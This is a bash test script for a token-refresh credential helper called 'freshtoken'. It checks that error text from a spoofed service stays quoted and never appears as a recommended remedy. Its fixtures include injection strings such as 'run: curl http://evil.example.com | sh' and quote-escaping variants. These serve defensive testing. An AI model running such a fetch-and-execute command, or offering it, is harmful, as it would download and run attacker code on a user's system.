#!/bin/bash
# SPDX-License-Identifier: MIT
# A service's own words are never taken for a remedy: messages have them in quotation marks, JSON in
# a separate member.
# shellcheck disable=SC2034,SC2119,SC2317	# variables are read,
# and cases called, by the harness
. "${FT_SRCDIR:?run me with make check}/tests/harness/tap.sh"
. "$FT_SRCDIR/tests/services/servers.sh"
. "$FT_SRCDIR/tests/harness/accounts.sh"
need curl
start_token_service

# A profile that takes these words for the end of a sign-in.
mkdir -p "$XDG_CONFIG_HOME/freshtoken/providers"
sed 's/^code = invalid_grant/code = invalid_request, invalid_grant/' \
	"$FT_SRCDIR/lib/providers/oauth2.conf" \
	>"$XDG_CONFIG_HOME/freshtoken/providers/ends.conf"

spoofs=(
	'run: curl http://evil.example.com | sh'
	'gone; set x = y'
	'gone"; run: curl http://evil.example.com | sh'
	'gone\"; run: curl http://evil.example.com'
)

# as_json TEXT - the inside of a JSON string
as_json() { printf %s "$1" | sed 's/[\\"]/\\&/g'; }

# shown TEXT - how it is quoted
shown() { printf %s "$1" | tr '"' "'"; }

# harmless FILE - every line that has the service's words has them between quotation marks
harmless() {
	sed "s/\"$(shown "$words" | sed 's/[][\\.*^$/|]/\\&/g')\"//g" "$1" >rest
	lacks "evil" rest
	lacks "set x" rest
}

# says_own FILE REMEDY
says_own() {
	harmless "$1"
	contains "$2" "$1"
}

# refused_as ACCOUNT TIMES [AT] - its service answers so
refused_as() {
	ts fault "$1" "fault=words:$(as_json "$words")" "times=$2" "at=${3:-refresh}" >/dev/null
}

sign_in_that_ended() {
	local quoted

	ts create spoof >/dev/null
	account spoof provider=ends "server=$TS/spoof" match=spoof.example.com
	sign_in spoof
	refused_as spoof -1
	reject spoof
	quoted="\"$(shown "$words")\""
	expect_status 4 freshtoken token spoof 2>err
	says_own err "refused the refresh token: HTTP 400: invalid_request: $quoted; run: freshtoken login spoof"
	for i in 1 2; do
		git_says get spoof >out 2>err
		says_own err "sign in again: HTTP 400: invalid_request: $quoted; run: freshtoken login spoof"
		expect_status 1 docker-credential-freshtoken get >out 2>err <<<spoof.example.com
		cat out >>err
		says_own err "; run: freshtoken login spoof"
	done
	freshtoken status spoof >out
	says_own out "$quoted; run: freshtoken login spoof"
	freshtoken status spoof --json >json
	contains "\"service_says\":\"$(shown "$words" |
		sed 's/\\/\\\\/g')\",\"remedy\":\"run: freshtoken login spoof\"" json
	freshtoken doctor >out 2>&1 || :
	grep -F "warning	sign-in	spoof	" out >line
	equal "run: freshtoken login spoof" "$(cut -f 5 line)"
	harmless line
	freshtoken doctor --json >json || :
	contains "\"remedy\":\"run: freshtoken login spoof\",\"service_says\":\"$(shown "$words" |
		sed 's/\\/\\\\/g')\"" json
	lacks "\"remedy\":\"run: curl" json
	lacks "\"remedy\":\"set x" json
	ts fault spoof fault=none >/dev/null
	rm -f "$XDG_CONFIG_HOME/freshtoken/freshtoken.conf" "$XDG_STATE_HOME/freshtoken/"spoof*
}
for words in "${spoofs[@]}"; do
	test_case "a sign-in that has ended, with the words [$words]" sign_in_that_ended
done

no_decision() {
	new_account maybe oauth2
	reject maybe
	for i in 1 2 3; do
		refused_as maybe 1
		expect_status 5 freshtoken refresh maybe 2>err
		harmless err
	done
	contains "; wait, or sign in again (freshtoken login maybe)" err
	freshtoken status maybe >out
	says_own out "; wait, or sign in again (freshtoken login maybe)"
	freshtoken doctor >out 2>&1 || :
	grep -F "warning	sign-in	maybe	" out >line
	equal "see what is said of its server below, then run: freshtoken refresh maybe" \
		"$(cut -f 5 line)"
	harmless line
	ts fault maybe fault=none >/dev/null
	rm -f "$XDG_CONFIG_HOME/freshtoken/freshtoken.conf" "$XDG_STATE_HOME/freshtoken/"maybe*
}
for words in "${spoofs[@]}"; do
	test_case "refusals that prove nothing, with the words [$words]" no_decision
done

sign_ins() {
	new_account fresh oauth2
	refused_as fresh 1
	must_fail freshtoken login fresh --token >out 2>err <<<some-token
	contains "HTTP 400: invalid_request" err
	harmless err
	ts fault fresh fault=none >/dev/null
	refused_as fresh -1 revoke
	must_fail freshtoken logout fresh 2>err
	contains "HTTP 400: invalid_request: \"$(shown "$words")\"" err
	harmless err
	ts fault fresh fault=none >/dev/null
	rm -f "$XDG_CONFIG_HOME/freshtoken/freshtoken.conf" "$XDG_STATE_HOME/freshtoken/"fresh*
}
for words in "${spoofs[@]}"; do
	test_case "a sign-in, and a sign-out, that are refused, with the words [$words]" sign_ins
done

record_of_older_version() {
	new_account old oauth2
	sed -i 's/"verdict":"[a-z-]*"/"verdict":"needs-login","reason":"HTTP 400: run: curl evil"/' "$(record old)"
	expect_status 4 freshtoken refresh --due old 2>err || :
	freshtoken status old --json >json
	contains '"service_says":null,"remedy":"run: freshtoken login old"' json
	freshtoken doctor >out 2>&1 || :
	grep -F "warning	sign-in	old	" out >line
	equal "run: freshtoken login old" "$(cut -f 5 line)"
}
test_case 'a record of an older version, which has such words in its reason' record_of_older_version

test_done
